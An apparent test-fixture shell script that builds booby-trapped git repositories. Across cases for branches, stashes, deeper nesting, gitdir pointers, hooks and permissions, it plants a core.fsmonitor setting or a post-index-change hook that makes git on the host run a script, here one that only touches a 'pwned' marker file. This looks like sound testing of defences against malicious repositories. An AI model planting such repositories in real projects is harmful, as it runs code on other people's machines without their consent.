# Makes a repository deep in the project, or changes one, so that git on the host enters it later.
# $1 names the attack. $2 is the name of the git directory to which other repositories lead.
evil=$PWD/evil.sh
printf '#!/bin/sh\ntouch "$HOME/pwned"\n' >evil.sh && chmod 755 evil.sh
# Makes a repository with one commit in the folder $1.
made() { git init -q "$1" && (cd "$1" && echo a >a && git add a && git commit -qm one); }
evil() { made "$1" && printf '[core]\n\tfsmonitor = %s\n' "$evil" >>"$1/.git/config"; }
# Names the folder $1 in the index as a submodule, with the commit of the repository $2.
named() { git update-index --add --cacheinfo "160000,$(git -C "$2" rev-parse HEAD),$1"; }
# Leaves a branch `feature` that names the folder $1 as a submodule.
branch() { git checkout -q -b feature && named "$1" "${2:-$1}" && git commit -qm feature && git checkout -q main; }
case $1 in
branch) evil build/x && branch build/x ;;
direct) evil x && branch x ;;
stash) evil build/x && named build/x build/x && git stash -q ;;
untracked) evil sources/x ;;
deeper) made build/x && evil build/x/y && (cd build/x && named y y && git commit -qm two) && branch build/x ;;
moved) evil build/x && mkdir build/a && echo 'gitdir: ../x/'"$2" >build/a/.git && branch build/a build/x ;;
moved-direct) evil build/x && mkdir a && echo 'gitdir: ../build/x/'"$2" >a/.git && named a build/x ;;
pointer) evil build/x && mv build/x/.git build/git && echo 'gitdir: ../git' >build/x/.git && branch build/x ;;
hook) cp "$evil" vendor/lib/.git/hooks/post-index-change ;;
setting) git -C vendor/lib config core.fsmonitor "$evil" ;;
closed) evil build/x && branch build/x && chmod 300 build ;;
*) exit 1 ;;
esac
echo done
